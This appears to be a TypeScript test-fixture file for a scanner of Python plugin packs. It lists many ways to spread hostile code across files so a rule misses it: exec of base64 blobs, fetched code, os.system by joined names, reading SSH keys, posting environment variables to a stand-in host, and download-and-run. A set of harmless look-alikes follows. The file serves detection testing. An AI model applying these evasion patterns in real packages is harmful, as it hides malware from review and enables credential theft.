import type { Files } from '../entries.ts'

/**
 * Evasions: what the rule finds in one plain file is spread over several, or led through names, items, calls and
 * defaults. `__init__.py` begins with an import of base64.
 */
export interface PackCase {
  title: string
  rule: string
  files: Files
}

const RUN = 'run(base64.b64decode(BLOB))'

const decoded = (title: string, init: string, files: Files = {}): PackCase => ({
  title,
  rule: 'exec-decoded',
  files: { ...files, '__init__.py': `import base64\n${init}\n` },
})

const other = (rule: string, title: string, init: string, files: Files = {}): PackCase => ({
  ...decoded(title, init, files),
  rule,
})

const helper = (source: string): Files => ({ 'helper.py': `${source}\n` })
const RUNS = helper('run = exec')

export const EVASIONS: readonly PackCase[] = [
  decoded(
    'a star import of modules',
    'from .helper import *\nexec(b.b64decode(BLOB))',
    helper('import base64 as b'),
  ),
  decoded(
    'a module under another name',
    'from .helper import b\nexec(b.b64decode(BLOB))',
    helper('import base64 as b'),
  ),
  decoded(
    'an imported module renamed',
    'from .helper import base64 as b\nexec(b.b64decode(BLOB))',
    helper('import base64'),
  ),
  decoded(
    'an imported decoder',
    'from .helper import d\nexec(d(BLOB))',
    helper('from base64 import b64decode as d'),
  ),
  decoded(
    'a star import of a star import',
    'from .helper import *\nexec(b64decode(BLOB))',
    helper('from base64 import *'),
  ),
  decoded(
    'an assigned decoder',
    'from .helper import d\nexec(d(BLOB))',
    helper('import base64\nd = base64.b64decode'),
  ),
  decoded(
    'a module of the pack as a name',
    'from . import helper\nexec(helper.d(BLOB))',
    helper('from base64 import b64decode as d'),
  ),
  decoded(
    'a module of the pack renamed',
    'from . import helper as h\nexec(h.b.b64decode(BLOB))',
    helper('import base64 as b'),
  ),
  decoded(
    'an absolute import',
    'import helper\nexec(helper.d(BLOB))',
    helper('from base64 import b64decode as d'),
  ),
  decoded(
    'a path that was added',
    'import sys\nsys.path.append("lib")\nfrom deep import d\nexec(d(BLOB))',
    { 'lib/deep.py': 'from base64 import b64decode as d\n' },
  ),
  decoded('a file that hides a library', 'import base64\nexec(base64.b64decode(BLOB))', {
    'base64.py': '',
  }),
  decoded('an alias of exec', `from .helper import run\n${RUN}`, RUNS),
  decoded(
    'an alias of an alias',
    `from .helper import start as run\n${RUN}`,
    helper('e = exec\nstart = e'),
  ),
  decoded('a package that re-exports', `from .pkg import run\n${RUN}`, {
    'pkg/__init__.py': 'from .deep import run\n',
    'pkg/deep.py': 'run = exec\n',
  }),
  decoded('a package that re-exports all', `from .pkg import *\n${RUN}`, {
    'pkg/__init__.py': 'from .deep import *\n',
    'pkg/deep.py': 'run = exec\n',
  }),
  decoded(
    'a package that re-exports a module',
    'from .pkg import deep\ndeep.run(base64.b64decode(BLOB))',
    { 'pkg/__init__.py': '', 'pkg/deep.py': 'run = exec\n' },
  ),
  decoded(
    'a chain of eight files',
    `from .m8 import run\n${RUN}`,
    Object.fromEntries([
      ['m1.py', 'run = exec\n'],
      ...[2, 3, 4, 5, 6, 7, 8].map((at) => [`m${at}.py`, `from .m${at - 1} import *\n`]),
    ]) as Files,
  ),
  decoded('a circle of imports', `from .a import run\n${RUN}`, {
    'a.py': 'from .b import *\nfrom .c import run\n',
    'b.py': 'from .a import *\n',
    'c.py': 'from .a import run\nfrom .b import run\nrun = exec\n',
  }),
  decoded('an import of a parent', 'from .pkg.deep import go', {
    'helper.py': 'run = exec\n',
    'pkg/deep.py': `import base64\nfrom ..helper import run\ndef go():\n    ${RUN}\n`,
  }),
  decoded(
    'getattr of a module of the pack',
    'from . import helper\ngetattr(helper, "run")(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'getattr with a joined name',
    'from . import helper\ngetattr(helper, "".join(["r", "un"]))(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded('getattr with a default', 'getattr(base64, "nothing", exec)(base64.b64decode(BLOB))'),
  decoded('__import__ of a file', '__import__("helper").run(base64.b64decode(BLOB))', RUNS),
  decoded(
    '__import__ below the package',
    '__import__(__package__ + ".helper", fromlist=["run"]).run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'import_module of a relative name',
    'import importlib\nimportlib.import_module(".helper", __package__).run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'import_module by an f-string',
    'from importlib import import_module as im\nh = im(f"{__package__}.helper")\nh.run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'import_module with a keyword',
    'import importlib\nimportlib.import_module(name="builtins").exec(base64.b64decode(BLOB))',
  ),
  decoded(
    'an importer of the pack',
    'from .helper import get\nget("builtins").exec(base64.b64decode(BLOB))',
    helper('import importlib\ndef get(n):\n    return importlib.import_module(n)'),
  ),
  decoded(
    'a module loaded from its path',
    'import importlib.util, os\ns = importlib.util.spec_from_file_location("x", os.path.join(os.path.dirname(__file__), "helper.py"))\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\nm.run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded('globals by name', 'run = exec\nglobals()["r" + "un"](base64.b64decode(BLOB))'),
  decoded(
    'globals that a star import filled',
    'from .helper import *\nglobals()["run"](base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'an attribute that was set',
    'class H: pass\nh = H()\nh.run = exec\nh.run(base64.b64decode(BLOB))',
  ),
  decoded(
    'an attribute of a module of the pack that was set',
    'from . import helper\ndef f():\n    helper.run = exec\n    helper.run(base64.b64decode(BLOB))',
    helper('x = 1'),
  ),
  decoded(
    'setattr',
    'from . import helper\nsetattr(helper, "run", exec)\nhelper.run(base64.b64decode(BLOB))',
    helper('x = 1'),
  ),
  decoded('globals that were set', 'globals()["run"] = exec\nrun(base64.b64decode(BLOB))'),
  decoded(
    'attrgetter',
    'import builtins, operator\noperator.attrgetter("exec")(builtins)(base64.b64decode(BLOB))',
  ),
  decoded('globals().get', 'run = exec\nglobals().get("run")(base64.b64decode(BLOB))'),
  decoded(
    'vars of a module of the pack',
    'from . import helper\nvars(helper)["run"](base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    '__dict__ of a module of the pack',
    'from . import helper\nhelper.__dict__["run"](base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'sys.modules by name',
    'import sys\nfrom . import helper\nsys.modules[__name__ + ".helper"].run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded('a decorator that runs', '@exec\n@base64.b64decode\ndef payload(): pass'),
  decoded(
    'a decorator of another file',
    'from .helper import run\n@run\n@lambda f: base64.b64decode(BLOB)\ndef payload(): pass',
    RUNS,
  ),
  decoded(
    'a decorator that gives exec',
    `from .helper import swap\n@swap\ndef run(code): pass\n${RUN}`,
    helper('def swap(f):\n    return exec'),
  ),
  decoded('a default argument', 'def go(code, run=exec):\n    run(base64.b64decode(code))'),
  decoded(
    'a default argument from another file',
    'from .helper import run as r\ndef go(code, run=r):\n    run(base64.b64decode(code))',
    RUNS,
  ),
  decoded(
    'a default argument that is the code',
    'def go(code=base64.b64decode(BLOB)):\n    exec(code)',
  ),
  decoded('the default of a lambda', '(lambda code, run=exec: run(base64.b64decode(code)))(BLOB)'),
  decoded('a class attribute', 'class A:\n    run = exec\nA.run(base64.b64decode(BLOB))'),
  decoded(
    'a class attribute of an instance',
    'class A:\n    run = staticmethod(exec)\nA().run(base64.b64decode(BLOB))',
  ),
  decoded(
    'a class attribute of another file',
    'from .helper import A\na = A()\na.run(base64.b64decode(BLOB))',
    helper('class A:\n    run = exec'),
  ),
  decoded(
    'an attribute of a base class',
    'from .helper import A\nclass B(A):\n    def go(self):\n        self.run(base64.b64decode(BLOB))',
    helper('class A:\n    run = exec'),
  ),
  decoded(
    'an attribute that a base class assigns',
    'from .helper import A\nclass B(A):\n    def go(self):\n        exec(self.code)',
    helper(
      'import base64\nclass A:\n    def __init__(self):\n        self.code = base64.b64decode(BLOB)',
    ),
  ),
  decoded(
    'a function that gives exec',
    'from .helper import get\nget()(base64.b64decode(BLOB))',
    helper('def get():\n    return exec'),
  ),
  decoded(
    'a function that decodes',
    'from .helper import unpack\nexec(unpack(BLOB))',
    helper('import base64\ndef unpack(s):\n    return base64.b64decode(s)'),
  ),
  decoded(
    'a method that decodes',
    'from .helper import A\nexec(A().unpack(BLOB))',
    helper('import base64\nclass A:\n    def unpack(self, s):\n        return base64.b64decode(s)'),
  ),
  decoded(
    'a function that decodes by what it is given',
    'from .helper import apply\nexec(apply(base64.b64decode, BLOB))',
    helper('def apply(f, x):\n    return f(x)'),
  ),
  decoded(
    'a function that runs',
    'from .helper import go\ngo(base64.b64decode(BLOB))',
    helper('def go(code):\n    exec(code)'),
  ),
  decoded(
    'a function that runs through another',
    'from .helper import go\ngo(code=base64.b64decode(BLOB))',
    helper('def inner(c, *rest):\n    exec(c, *rest)\ndef go(code):\n    inner(code, {})'),
  ),
  decoded(
    'a function that runs what it is given',
    'from .helper import go\ngo(exec, base64.b64decode(BLOB))',
    helper('def go(f, *args):\n    f(*args)'),
  ),
  decoded(
    'a class that runs',
    'from .helper import A\nA(base64.b64decode(BLOB))',
    helper('class A:\n    def __init__(self, code):\n        exec(code)'),
  ),
  decoded(
    'code that another file decodes',
    'from .helper import CODE\nexec(CODE)',
    helper('import base64\nCODE = base64.b64decode(BLOB)'),
  ),
  decoded(
    'code in an attribute of another file',
    'from . import helper\nexec(helper.CODE)',
    helper('import base64\nCODE = base64.b64decode(BLOB)'),
  ),
  decoded('a table of functions', 'T = {"a": exec, "b": print}\nT["a"](base64.b64decode(BLOB))'),
  decoded(
    'a table of another file',
    'from .helper import T\nT.get("a")(base64.b64decode(BLOB))',
    helper('T = {"a": exec}'),
  ),
  decoded(
    'a list of functions',
    'from .helper import T\nT[0](base64.b64decode(BLOB))',
    helper('T = [exec, eval]'),
  ),
  decoded('a loop over functions', 'for f in (print, exec):\n    f(base64.b64decode(BLOB))'),
  decoded(
    'a partial function',
    'from functools import partial\nrun = partial(exec)\nrun(base64.b64decode(BLOB))',
  ),
  decoded('map', 'list(map(exec, [base64.b64decode(BLOB)]))'),
  decoded(
    'a partial function with its code',
    'import functools\nfunctools.partial(exec, base64.b64decode(BLOB))()',
  ),
  decoded(
    'a thread',
    'import threading\nthreading.Thread(target=exec, args=(base64.b64decode(BLOB),)).start()',
  ),
  decoded(
    'a thread of another file',
    'import threading\nfrom .helper import go\nthreading.Thread(target=go, args=[base64.b64decode(BLOB)]).start()',
    helper('def go(c):\n    exec(c)'),
  ),
  decoded(
    'a static method that runs',
    'from .helper import A\nA.go(base64.b64decode(BLOB))',
    helper('class A:\n    @staticmethod\n    def go(code):\n        exec(code)'),
  ),
  decoded(
    'a method that runs',
    'from .helper import a\na.go(base64.b64decode(BLOB))',
    helper('class A:\n    def go(self, code):\n        exec(code)\na = A()'),
  ),
  decoded(
    'a function that decodes and runs with what it is given',
    'from .helper import go\ngo(exec, base64, "b64decode")',
    helper('def go(f, m, n):\n    f(getattr(m, n)(BLOB))'),
  ),
  decoded('__call__', 'exec.__call__(base64.b64decode(BLOB))'),
  decoded('a name bound to itself', 'exec = exec\nexec(base64.b64decode(BLOB))'),
  other(
    'exec-network',
    'a fetch of another file',
    'from .helper import requests as r\nexec(r.get(u).text)',
    helper('import requests'),
  ),
  other(
    'exec-network',
    'a function that fetches',
    'from .helper import fetch\nexec(fetch(u))',
    helper('import requests\ndef fetch(u):\n    return requests.get(u).text'),
  ),
  other(
    'hidden-call',
    'a joined name of another file',
    'import os\nfrom .helper import N\ngetattr(os, N)(c)',
    helper('N = "sys" + "tem"'),
  ),
  other(
    'hidden-call',
    'a name that two files make',
    'import os\nfrom .helper import N\ngetattr(os, N + "tem")(c)',
    helper('N = "sys"'),
  ),
  other(
    'hidden-call',
    'a name that a function turns round',
    'import os\nfrom .helper import turn\ngetattr(os, turn("metsys"))(c)',
    helper('def turn(s):\n    return s[::-1]'),
  ),
  other(
    'hidden-call',
    'a getter of another file',
    'import os\nfrom .helper import g\ng(os, "sys" + "tem")(c)',
    helper('g = getattr'),
  ),
  other(
    'credential-read',
    'a path of another file',
    'from .helper import KEY\nopen(KEY)',
    helper('import os\nKEY = os.path.expanduser("~/.ssh/id_rsa")'),
  ),
  other(
    'credential-read',
    'a reader of another file',
    'from .helper import read\nread("/root/.ssh/id_rsa")',
    helper('def read(p):\n    return open(p).read()'),
  ),
  other(
    'credential-read',
    'a path in parts',
    'from . import helper\nopen(helper.HOME + "/.ssh/" + helper.NAME)',
    helper('HOME = "/root"\nNAME = "id_rsa"'),
  ),
  other(
    'exfiltration',
    'an address of another file',
    'import os, requests\nfrom .helper import URL\nrequests.post(URL, json=dict(os.environ))',
    helper('URL = "https://collect.example.com/x"'),
  ),
  other(
    'exfiltration',
    'a sender of another file',
    'import os\nfrom .helper import send\nsend("https://collect.example.com/x", json=dict(os.environ))',
    helper('from requests import post as send'),
  ),
  other(
    'exfiltration',
    'an environment of another file',
    'import requests\nfrom .helper import data\nrequests.post("https://collect.example.com/x", json=data())',
    helper('import os\ndef data():\n    return dict(os.environ)'),
  ),
  other(
    'download-run',
    'a download by another file',
    'import os\nfrom .helper import get\nget(u, "a.exe")\nos.startfile("a.exe")',
    helper('from urllib.request import urlretrieve as get'),
  ),
  other(
    'download-run',
    'a path of another file',
    'import os, urllib.request\nfrom .helper import P\nurllib.request.urlretrieve(u, P)\nos.startfile(P)',
    helper('P = "a.exe"'),
  ),
  other(
    'code-object',
    'a code object of another file',
    'import types\nfrom .helper import code\ntypes.FunctionType(code, {})',
    helper('import marshal\ncode = marshal.loads(B)'),
  ),
  other(
    'code-object',
    'a maker of another file',
    'from .helper import F, code\nF(code, {})',
    helper('import marshal\nfrom types import FunctionType as F\ncode = marshal.loads(B)'),
  ),
]

/** Packs of much the same look that hit no rule of high severity. */
export const HARMLESS: readonly PackCase[] = [
  decoded(
    'a decoder of another file',
    'from .helper import d\nicon = d(PNG)',
    helper('from base64 import b64decode as d'),
  ),
  decoded(
    'a function of another file that is named exec',
    'from .helper import *\nexec(base64.b64decode(BLOB))',
    helper('def exec(x):\n    return x'),
  ),
  decoded(
    'a runner and a decoder that never meet',
    'from .helper import run, decode\nrun(open(p).read())\nicon = decode(PNG)',
    helper(
      'import base64\ndef run(code):\n    exec(code)\ndef decode(s):\n    return base64.b64decode(s)',
    ),
  ),
  decoded(
    'a runner that one call gives text',
    'from .helper import run\nrun(base64.encodebytes(x))',
    helper('def run(code):\n    eval(code)'),
  ),
  decoded(
    'a table of decoders',
    'from .helper import T\nimage = T["png"](text)',
    helper('import base64\nT = {"png": base64.b64decode, "text": str}'),
  ),
  decoded(
    'a plain name of another file',
    'import os\nfrom .helper import N\ngetattr(os, N)(p)',
    helper('N = "system"'),
  ),
  decoded(
    'an address and the prompt',
    'import requests\nfrom .helper import URL\nrequests.post(URL, json={"prompt": p})',
    helper('URL = "https://collect.example.com/x"'),
  ),
  decoded(
    'a class with a method exec',
    'from .helper import A\nA().exec(base64.b64decode(q))',
    helper('class A:\n    def exec(self, sql):\n        return sql'),
  ),
  decoded(
    'decorators',
    'from .helper import deco\n@deco\n@base64.b64decode\ndef f(): pass',
    helper('def deco(f):\n    return f'),
  ),
]
